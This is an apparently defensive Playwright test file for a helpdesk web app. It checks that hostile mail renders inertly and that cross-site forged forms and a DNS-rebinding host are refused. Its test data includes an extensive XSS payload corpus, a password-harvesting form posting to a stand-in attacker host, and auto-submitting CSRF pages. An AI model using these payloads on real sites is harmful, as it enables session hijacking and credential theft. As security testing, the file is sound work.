"""Hostile mail on the ticket page, in real Chromium against a real `deskmail run api`.

An XSS corpus (script tags, event handlers, javascript: and data: URLs, SVG, CSS
expressions, frames, forms, an .html and an .svg attachment, markup in the subject,
the display name and the file name) is stored as tickets and shown in every view:
plain text, cleaned HTML, HTML with remote images. Nothing may open a dialog, log
a console error or load anything from another host, except the images the agent
asked for. Then the forged forms: another site's auto-posting form, a sandboxed
frame (Origin null), and a DNS-rebinding host are all refused.
"""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserType, ConsoleMessage, Dialog, Page, Request, Response, Route, expect

from services.common.blobs import FolderBlobStore
from services.tickets import TicketStore
from tests.e2e.test_ticket_page import SMTP_PASSWORD, _command, _config
from tests.harness.smtp import SmtpServer
from tests.harness.stack import Stack

pytestmark = pytest.mark.e2e

TRACKER = "tracker.invalid"
HOSTILE_HTML = f"""
<html><head><title>t</title><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<link rel="stylesheet" href="https://evil.invalid/x.css"><style>body {{ background: url(https://evil.invalid/bg.png) }}</style>
<script>alert("script tag")</script><script src="https://evil.invalid/x.js"></script></head>
<body onload="alert('body onload')">
<p id="opening" class="badge" onclick="alert('click')" onmouseover="alert('hover')">Hostile but <b>readable</b> text.</p>
<img src="x" onerror="alert('img onerror')"><img src="https://{TRACKER}/pixel.gif" alt="pixel">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<a id="js-link" href="javascript:alert('javascript url')">js link</a>
<a href="JaVaScRiPt:alert('mixed case')">mixed</a>
<a href="data:text/html,&lt;script&gt;alert('data url')&lt;/script&gt;">data link</a>
<svg onload="alert('svg onload')"><script>alert('svg script')</script><animate onbegin="alert('animate')"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>
<div style="width: expression(alert('css expression')); background: url(javascript:alert('css url'))">css</div>
<iframe src="https://evil.invalid/frame" srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<object data="https://evil.invalid/x.swf"></object><embed src="https://evil.invalid/y.swf">
<form action="https://evil.invalid/steal" method="post"><input name="password"><button>Log in</button></form>
<details open ontoggle="alert('ontoggle')"><summary>s</summary></details>
<video><source onerror="alert('source')"></video><audio src="x" onerror="alert('audio')"></audio>
<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert('mXSS')&gt;"></p></noscript>
<table background="https://{TRACKER}/bg.png"><tr><td>cell</td></tr></table>
</body></html>"""
NAME_HTML = "\"><svg onload=alert('display name')>"
SUBJECT_HTML = "<script>alert('subject')</script><img src=x onerror=alert('subject img')> Invoice"
FILE_NAME_HTML = "<img src=x onerror=alert('file name')>.html"


def _start_attacker(target: str) -> tuple[http.server.ThreadingHTTPServer, str]:
    """Another site, on another port of this machine: pages that post forms to deskmail."""
    pages = {
        "/post.html": f"""<form id="f" method="post" action="{target}/tickets/SUPPORT-1/reply">
            <input name="author" value="alice@example.com"><input name="text" value="forged from another site">
            <input name="send_email" value="on"><input name="to" value="mallory@outside.invalid">
            <input name="csrf_token" value="guessed"><button id="go">Win a prize</button></form>""",
        "/sandbox.html": f"""<iframe sandbox="allow-forms allow-scripts" srcdoc='<form id="f" method="post"
            action="{target}/queues/SUPPORT/settings/test"><input name="mailbox" value="support@example.com">
            <input name="to" value="mallory@outside.invalid"></form>
            <script>document.getElementById("f").submit()</script>'></iframe>""",
    }

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's naming
            body = pages.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://localhost:{server.server_address[1]}"


@pytest.fixture
def smtp() -> Iterator[SmtpServer]:
    with SmtpServer({"support": SMTP_PASSWORD}) as server:
        yield server


@pytest.fixture
def stack(tmp_path: Path, broker: Any, unique: Callable[[str], str], smtp: SmtpServer) -> Iterator[Stack]:
    text = _config(unique, f"sqlite:///{tmp_path / 'tickets.db'}", tmp_path / "data", smtp)
    instance = Stack(text, tmp_path, broker.bootstrap, env={"E2E_SMTP_PW": SMTP_PASSWORD})
    instance.start("api")
    yield instance
    instance.stop()


def _store_corpus(stack: Stack) -> TicketStore:
    store = TicketStore(stack.config.database_url)
    blobs = FolderBlobStore(stack.config.blob_path)
    files = [
        (FILE_NAME_HTML, "text/html", b"<script>alert('html attachment')</script>"),
        ("logo.svg", "image/svg+xml",
         b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg attachment\')"><script>alert(2)</script></svg>'),
    ]
    attachments = [{"filename": name, "content_type": kind, "size": len(data), "sha256": "00" * 32,
                    "blob_ref": blobs.put(data, durable=False)} for name, kind, data in files]
    store.apply(_command(1, subject=SUBJECT_HTML, text="<script>alert('text part')</script>", html=HOSTILE_HTML,
                         author={"email": "carol@customer.test", "name": NAME_HTML, "member": False},
                         attachments=attachments))
    store.apply(_command(2, action="comment", classification="reply", subject="Re: x",
                         in_reply_to="page-1@customer.test", references=["page-1@customer.test"],
                         text="a reply", html="<p onclick=alert('reply')>reply <a href='javascript:alert(3)'>x</a></p>",
                         author={"email": "carol@customer.test", "name": NAME_HTML, "member": False},
                         attachments=[]))
    return store


class Watch:
    """What the page did: dialogs, console errors, requests, and the CSP of each api response."""

    def __init__(self, page: Page, api: str):
        self.api = urlsplit(api).netloc
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.hosts: list[str] = []
        self.no_csp: list[str] = []
        self.policies: dict[str, str] = {}
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("pageerror", lambda exc: self.errors.append(f"page error: {exc}"))
        page.on("request", self._request)
        page.on("response", self._response)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        where = message.location.get("url", "")
        if message.type == "error" and not where.endswith("/favicon.ico"):  # the browser's own request
            self.errors.append(f"{message.text} ({where})")

    def _request(self, request: Request) -> None:
        if not request.url.startswith(("data:", "about:", "blob:")):
            self.hosts.append(urlsplit(request.url).netloc)

    def _response(self, response: Response) -> None:
        if urlsplit(response.url).netloc == self.api:
            policy = response.headers.get("content-security-policy")
            if policy is None:
                self.no_csp.append(response.url)
            else:
                self.policies[response.url] = policy

    def outside(self) -> set[str]:
        return {h for h in self.hosts if h != self.api}


def test_hostile_mail_runs_nothing_and_loads_nothing(stack: Stack, page: Page) -> None:
    _store_corpus(stack)
    base = f"http://127.0.0.1:{stack.ports['api']}"
    watch = Watch(page, base)

    for view in ("", "?html=1"):
        page.goto(f"{base}/tickets/SUPPORT-1{view}")
        expect(page.locator("h1")).to_contain_text("<script>alert('subject')</script>")  # shown as text
        expect(page.locator("#opening header")).to_contain_text("\"><svg onload=alert('display name')>")
        expect(page.locator("aside.side")).to_contain_text(FILE_NAME_HTML)
        page.wait_for_load_state("networkidle")
    body = page.locator("#opening .body.html")
    expect(body).to_contain_text("Hostile but readable text.")
    expect(body.locator("b")).to_have_text("readable")
    # nothing active survived in the DOM: no script but the page's own, no handler, no frame, no form
    active = page.evaluate("""() => {
        const found = [];
        for (const el of document.querySelectorAll('.body.html *')) {
            if (/^(script|iframe|object|embed|form|svg|math|style|link|meta|base|video|audio)$/i.test(el.tagName)) {
                found.push(el.tagName);
            }
            for (const a of el.attributes) {
                if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'id' || a.name === 'class'
                        || /^\\s*(javascript|data):/i.test(a.value)) { found.push(el.tagName + '@' + a.name); }
            }
        }
        // the page's own scripts are files from /static/ (live.js); anything else is not deskmail's
        const own = 'script:' + location.origin + '/static/';
        return found.concat(Array.from(document.scripts).map(s => 'script:' + s.src)
            .filter(s => s !== 'script:' && !s.startsWith(own)));
    }""")
    assert active == [], active
    assert page.locator("#opening").count() == 1  # the mail's id="opening" did not shadow the page's
    page.locator("#opening .body.html a", has_text="js link").click()  # its href is gone: nothing runs
    expect(page.locator("#load-images")).to_have_text("load images")
    assert "img-src 'self';" in watch.policies[f"{base}/tickets/SUPPORT-1?html=1"]

    # the agent asks for images: the https ones load (here: try to), for this response only
    page.click("#load-images")
    page.wait_for_url(re.compile(r"images=1"))
    page.wait_for_load_state("networkidle")
    assert watch.outside() == {TRACKER}, watch.hosts
    assert "img-src 'self' https:;" in watch.policies[page.url]
    assert all(TRACKER in e for e in watch.errors), watch.errors  # it does not resolve
    watch.hosts.clear()
    watch.errors.clear()

    # the attachments are downloads with a safe name, never pages of deskmail's origin
    page.goto(f"{base}/tickets/SUPPORT-1")
    for link, expected in ((page.locator("#opening a.file").nth(0), "_img src=x onerror=alert(_file name_)_.html"),
                           (page.locator("#opening a.file").nth(1), "logo.svg")):
        with page.expect_download() as download:
            link.click()
        name = download.value.suggested_filename
        assert name.endswith(expected.rsplit(".", 1)[1]) and "<" not in name, name
    served = page.request.get(f"{base}/tickets/SUPPORT-1/files/1")
    assert served.headers["content-type"] == "application/octet-stream"
    assert served.headers["content-disposition"].startswith("attachment;")
    assert served.headers["content-security-policy"].startswith("default-src 'none'; sandbox")
    # even framed or opened directly, it is no page: DENY and a download
    page.set_content(f'<iframe src="{base}/tickets/SUPPORT-1/files/0"></iframe>')
    page.wait_for_timeout(500)
    page.goto(f"{base}/queues/SUPPORT/settings")
    page.goto(f"{base}/")

    assert watch.dialogs == [], watch.dialogs
    assert watch.outside() <= {""}, watch.hosts  # only the api (and the about:blank frame page)
    assert not [e for e in watch.errors if "Refused to display" not in e and "X-Frame-Options" not in e], watch.errors
    assert watch.no_csp == [], watch.no_csp


def test_forged_forms_and_a_rebound_host_are_refused(
    stack: Stack, smtp: SmtpServer, page: Page, browser_type: BrowserType,
    browser_type_launch_args: dict[str, Any],
) -> None:
    store = _store_corpus(stack)
    port = stack.ports["api"]
    base = f"http://127.0.0.1:{port}"
    page.goto(f"{base}/tickets/SUPPORT-1")  # this browser has deskmail's form cookie now
    attacker, site = _start_attacker(base)
    try:
        page.goto(f"{site}/post.html")
        with page.expect_response(f"{base}/tickets/SUPPORT-1/reply") as forged:
            page.click("#go")
        assert forged.value.status == 403
        expect(page.locator("p.error")).to_contain_text("posted from another site")
        # The refusal cannot show inside the frame (frame-ancestors 'none'): the browser's
        # request is passed on to the api as it is, and the api's answer recorded on the way.
        # (Served from 127.0.0.1, the frame is same-site; Chromium may still give a sandboxed
        # frame a process of its own, whose requests the route would not see, so that is off.)
        answers: list[tuple[str | None, int, str]] = []

        def record(route: Route) -> None:
            answer = route.fetch()
            answers.append((route.request.all_headers().get("origin"), answer.status, answer.text()))
            route.fulfill(response=answer)

        args = dict(browser_type_launch_args)
        args["args"] = [*args.get("args", []), "--disable-features=IsolateSandboxedIframes"]
        framing: Browser = browser_type.launch(**args)
        try:
            framed = framing.new_page()
            framed.context.route("**/settings/test", record)
            framed.goto(site.replace("localhost", "127.0.0.1") + "/sandbox.html")
            for _ in range(50):
                if answers:
                    break
                framed.wait_for_timeout(200)
        finally:
            framing.close()
        assert answers, "the sandboxed frame's post did not happen"
        origin, status, text = answers[0]
        assert origin == "null" and status == 403 and "Origin null" in text, answers[0]
    finally:
        attacker.shutdown()
    detail = store.get_ticket("SUPPORT-1")
    assert detail is not None and len(detail.thread) == 1  # only the customer's reply
    assert smtp.received() == []

    # the normal flow still works in the same browser
    page.goto(f"{base}/tickets/SUPPORT-1")
    page.select_option("#author", "alice@example.com")
    page.fill("#text", "An internal note, from the page itself.")
    page.uncheck("#send_email")
    page.click("#send")
    page.wait_for_url(re.compile(r"/tickets/SUPPORT-1#c\d+$"))
    expect(page.locator(".entry.note").last).to_contain_text("An internal note, from the page itself.")

    # DNS rebinding: evil.invalid resolves to the api, the page at that name gets nothing
    args = dict(browser_type_launch_args)
    args["args"] = [*args.get("args", []), "--host-resolver-rules=MAP evil.invalid 127.0.0.1"]
    rebinding: Browser = browser_type.launch(**args)
    try:
        other = rebinding.new_page()
        response = other.goto(f"http://evil.invalid:{port}/tickets/SUPPORT-1")
        assert response is not None and response.status == 403
        expect(other.locator("p.error")).to_contain_text("is not this deskmail's")
        assert "Invoice" not in other.content()
        # the rebinding page's own script, same-origin from its point of view, reads nothing either
        status, text = other.evaluate("fetch('/api/v1/tickets').then(async r => [r.status, await r.text()])")
        assert status == 403 and "carol" not in text and "is not this deskmail's" in text
    finally:
        rebinding.close()
